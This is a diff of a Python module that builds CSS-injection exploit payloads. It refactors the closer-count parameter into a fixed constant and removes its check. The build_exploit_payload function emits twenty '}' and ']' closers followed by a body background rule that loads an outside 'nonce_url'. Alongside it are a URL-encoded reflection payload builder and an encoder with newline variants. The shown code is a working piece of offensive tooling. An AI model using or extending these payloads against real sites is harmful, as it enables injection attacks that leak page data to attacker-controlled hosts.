@@ -21,7 +21,7 @@ from urllib.parse import quote
 NONCE_LENGTH = 32
 NONCE_ALPHABET = string.ascii_lowercase + string.digits
 
-DEFAULT_CLOSER_COUNT = 20
+CLOSER_COUNT = 20
 
 
 class InvalidArgument(ValueError):
@@ -62,13 +62,11 @@ def build_reflection_payload(nonce: Nonce, newline: NewlineVariant) -> str:
     return newline.value + quote(directive, safe="")
 
 
-def build_exploit_payload(nonce_url: str, closer_count: int = DEFAULT_CLOSER_COUNT) -> str:
+def build_exploit_payload(nonce_url: str) -> str:
     """Exploit text, not yet encoded: closers, then a rule loading ``nonce_url``."""
     if "://" not in nonce_url:
         raise InvalidArgument(f"nonce_url must be absolute: {nonce_url!r}")
-    if closer_count < 1:
-        raise InvalidArgument("closer_count must be >= 1")
-    return "}" * closer_count + "]" * closer_count + "body{background:url(" + nonce_url + ")}"
+    return "}" * CLOSER_COUNT + "]" * CLOSER_COUNT + "body{background:url(" + nonce_url + ")}"
 
 
 def encode_exploit(text: str, newline: NewlineVariant) -> str:
